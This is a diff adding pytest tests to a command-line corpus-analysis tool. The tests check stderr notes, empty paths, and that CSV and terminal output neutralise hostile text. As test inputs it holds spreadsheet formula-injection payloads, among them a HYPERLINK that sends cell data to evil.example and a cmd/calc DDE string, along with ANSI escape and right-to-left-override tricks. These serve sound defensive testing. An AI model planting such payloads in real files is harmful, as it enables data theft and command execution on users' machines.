@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import os
 import shutil
 import subprocess
 import sys
@@ -179,3 +180,190 @@ def test_more_bad_arguments_give_one_line(args: list[str], message: str, cache: 
     result = run(*args, "--corpus", str(SEEDS), cache=cache, check=False)
     assert result.returncode == 2 and message in result.stderr
     assert len(result.stderr.strip().splitlines()) == 1 and "Traceback" not in result.stderr
+
+
+@pytest.mark.parametrize(("command", "extra"), [
+    ("trend", ["economy", "--freq", "year"]), ("themes", ["--freq", "year"]),
+    ("top", ["--n", "2"]), ("kwic", ["economy"]), ("articles", []),
+])
+def test_analyses_note_what_was_not_loaded_on_stderr(tmp_path: Path, cache: Path, command: str,
+                                                      extra: list[str]) -> None:
+    corpus = tmp_path / "c"
+    corpus.mkdir()
+    (corpus / "a.txt").write_text(" date 2023-09-02 A\n\nThe digital economy.\n")
+    (corpus / "b.txt").write_text(" date 2023-02-30 B\n\nAn impossible date.\n")
+    (corpus / "c.docx").write_bytes(b"PK\x03\x04")
+    for fmt in ("csv", "table"):
+        result = run(command, *extra, "--corpus", str(corpus), "--format", fmt, cache=cache)
+        assert result.stderr == ("policydata: note: 2 files or rows were not loaded; see "
+                                 "'policydata info'\n")
+        if fmt == "csv":  # the output itself is as it was
+            assert result.stdout.splitlines()[0] == ",".join(COLUMNS[command])
+            assert "note" not in result.stdout
+    (corpus / "c.docx").unlink()
+    result = run(command, *extra, "--corpus", str(corpus), "--format", "csv", cache=cache)
+    assert result.stderr == ("policydata: note: 1 file or row was not loaded; see "
+                             "'policydata info'\n")
+
+
+@pytest.mark.parametrize("command", [["trend", "economy"], ["themes"], ["top"], ["kwic", "x"],
+                                     ["articles"]])
+def test_an_empty_corpus_is_said_on_stderr(tmp_path: Path, cache: Path,
+                                           command: list[str]) -> None:
+    corpus = tmp_path / "c"
+    corpus.mkdir()
+    (corpus / "bad.txt").write_text("no header\n")
+    result = run(*command, "--corpus", str(corpus), cache=cache)
+    assert (result.returncode, result.stdout) == (0, "(no rows)\n")
+    assert result.stderr == ("policydata: note: the corpus has no documents (1 file or row was "
+                             "not loaded; see 'policydata info')\n")
+    (corpus / "bad.txt").unlink()
+    result = run(*command, "--corpus", str(corpus), "--format", "json", cache=cache)
+    assert (result.stdout, result.stderr) == ("[]\n", "policydata: note: the corpus has no "
+                                                      "documents\n")
+
+
+def test_info_of_an_empty_corpus(tmp_path: Path, cache: Path) -> None:
+    (tmp_path / "c").mkdir()
+    result = run("info", "--corpus", str(tmp_path / "c"), cache=cache)
+    assert "dates       no documents\n" in result.stdout and "None" not in result.stdout
+    assert result.stderr == ""
+
+
+@pytest.mark.parametrize(("freq", "note"), [
+    ("month", "policydata: note: 2 documents are dated by year only: counted in the first "
+              "month of the year\n"),
+    ("quarter", "policydata: note: 2 documents are dated by year only: counted in the first "
+                "quarter of the year\n"),
+    ("year", ""),
+])
+def test_year_dates_in_months_or_quarters_are_noted(tmp_path: Path, cache: Path, freq: str,
+                                                    note: str) -> None:
+    corpus = tmp_path / "c"
+    corpus.mkdir()
+    (corpus / "a.txt").write_text(" date 2023-09-02 A\n\nThe digital economy.\n")
+    (corpus / "b.txt").write_text(" date 2023-09 B\n\nThe digital economy.\n")  # exact month
+    (corpus / "c.txt").write_text(" date 2022 C\n\nThe digital economy.\n")
+    (corpus / "d.txt").write_text(" date 2021 D\n\nThe real economy.\n")
+    for command in (["trend", "digital"], ["themes"]):
+        result = run(*command, "--freq", freq, "--corpus", str(corpus), "--format", "csv",
+                     cache=cache)
+        assert result.stderr == note
+    # only the articles the filter keeps are counted
+    result = run("trend", "x", "--freq", freq, "--from", "2022-01-01", "--corpus", str(corpus),
+                 cache=cache)
+    assert result.stderr == note.replace("2 documents are", "1 document is")
+
+
+@pytest.mark.parametrize("option", ["--corpus", "--cache-dir", "--themes"])
+def test_an_empty_path_is_a_bad_argument(option: str, tmp_path: Path) -> None:
+    # Path("") is the current folder: `--corpus ""` used to read it without a word
+    env = dict(os.environ, POLICYDATA_CACHE_DIR=str(tmp_path.parent / "cache-of-empty-path"))
+    result = subprocess.run([SCRIPT, "trend", "x", option, ""], capture_output=True, text=True,
+                            timeout=300, cwd=tmp_path, env=env)
+    assert result.returncode == 2 and result.stdout == ""
+    assert result.stderr == (f"policydata trend: error: argument {option}: an empty path; "
+                             "give a folder or file\n")
+    assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize(("cell", "written"), [
+    ("plain", "plain"),
+    ("alpha\rbeta", '"alpha\rbeta"'),  # a lone CR is a line end to readers: quoted
+    ("alpha\nbeta", '"alpha\nbeta"'),
+    ("alpha\r\nbeta", '"alpha\r\nbeta"'),
+    ('=HYPERLINK("https://evil.example/?d="&A2,"Click")',
+     '"\'=HYPERLINK(""https://evil.example/?d=""&A2,""Click"")"'),
+    ("@SUM(1+1)", "'@SUM(1+1)"),
+    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+    ("-2+3", "'-2+3"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "\"'\r=1+1\""),
+    ("-2.5", "-2.5"),  # a plain number stays as it is
+    ("+7", "+7"),
+    ("-1e-3", "-1e-3"),
+    ("-.5", "-.5"),
+    ("-", "'-"),
+    ("a=b", "a=b"),
+    (" =1", " =1"),
+    ("", ""),
+])
+def test_csv_cells_cannot_split_rows_or_run_as_formulas(cell: str, written: str) -> None:
+    import pandas as pd
+
+    from policydata.columns import csv_text, frame_csv
+
+    frame = pd.DataFrame({"term": [cell], "count": [-1], "docs": [2], "score": [-2.5]})
+    assert csv_text(frame, "top") == f"term,count,docs,score\n{written},-1,2,-2.5\n"
+    assert frame_csv(frame.rename(columns={"term": "other"})) == (
+        f"other,count,docs,score\n{written},-1,2,-2.5\n")
+    # read back, each is one row holding what was written (less the quote, for formulas)
+    (row,) = rows(csv_text(frame, "top"))
+    assert row["term"] in (cell, "'" + cell) and row["score"] == "-2.5"
+
+
+def test_frame_csv_neutralises_text_of_any_column(tmp_path: Path) -> None:
+    import datetime as dt
+
+    import pandas as pd
+
+    from policydata.columns import frame_csv
+
+    frame = pd.DataFrame({
+        "when": [dt.date(2023, 9, 2), dt.date(2023, 9, 3)],
+        "mixed": pd.Series(["@x", 5], dtype=object),
+        "label": pd.Categorical(["=a", "b"]),
+        "flag": [True, False],
+        "change": [-0.5, 1.0],
+        7: ["-x", "y"],
+    })
+    assert frame_csv(frame) == ("when,mixed,label,flag,change,7\n"
+                                "2023-09-02,'@x,'=a,True,-0.5,'-x\n"
+                                "2023-09-03,5,b,False,1.0,y\n")
+
+
+def test_cli_csv_is_safe_in_spreadsheets_and_json_is_as_written(tmp_path: Path,
+                                                               cache: Path) -> None:
+    corpus = tmp_path / "c"
+    corpus.mkdir()
+    title = '=HYPERLINK("https://evil.example/?d="&A2,"Click")'
+    (corpus / "a.txt").write_text(f" date 2023-09-02 {title}\n\nThe digital economy.\n")
+    out = run("articles", "--corpus", str(corpus), "--format", "csv", cache=cache).stdout
+    assert [r["title"] for r in rows(out)] == ["'" + title]
+    data = json.loads(run("articles", "--corpus", str(corpus), "--format", "json",
+                          cache=cache).stdout)
+    assert [r["title"] for r in data] == [title]
+
+
+def test_info_table_shows_every_value_as_text(tmp_path: Path) -> None:
+    # a source (folder) name, a cache path and a title must not reach the terminal as escape
+    # sequences or direction overrides
+    corpus = tmp_path / "c"
+    (corpus / "csv\x1b[31mRED").mkdir(parents=True)
+    (corpus / "csv\x1b[31mRED" / "a.txt").write_text(
+        " date 2023-09-02 txt.\u202eexe\u200b\n\nThe digital economy.\n")
+    cache = tmp_path / "cache\x1b]0;owned\x07"
+    info = run("info", "--corpus", str(corpus), cache=cache).stdout
+    assert "\x1b" not in info and "\x07" not in info
+    assert "sources     csv\\x1b[31mRED (1)\n" in info
+    assert "cache\\x1b]0;owned\\x07" in info
+    table = run("articles", "--corpus", str(corpus), cache=cache).stdout
+    assert "txt.[U+202E]exe[U+200B]" in table and "\u202e" not in table
+
+
+@pytest.mark.parametrize(("text", "shown"), [
+    ("plain", "plain"),
+    ("a\x1b[2Jb", "a\\x1b[2Jb"),
+    ("line\nforged", "line\\nforged"),
+    ("\x9b31m", "\\x9b31m"),
+    ("evil\u202etxt.exe", "evil[U+202E]txt.exe"),
+    ("zero\u200bwidth\u200f", "zero[U+200B]width[U+200F]"),
+    ("\u2066isolate\u2069", "[U+2066]isolate[U+2069]"),
+    ("\ufeffbom", "[U+FEFF]bom"),
+    ("arabic\u061cmark", "arabic[U+061C]mark"),
+    ("数字经济 é", "数字经济 é"),
+])
+def test_terminal_text(text: str, shown: str) -> None:
+    from policydata.cli import terminal_text
+
+    assert terminal_text(text) == shown
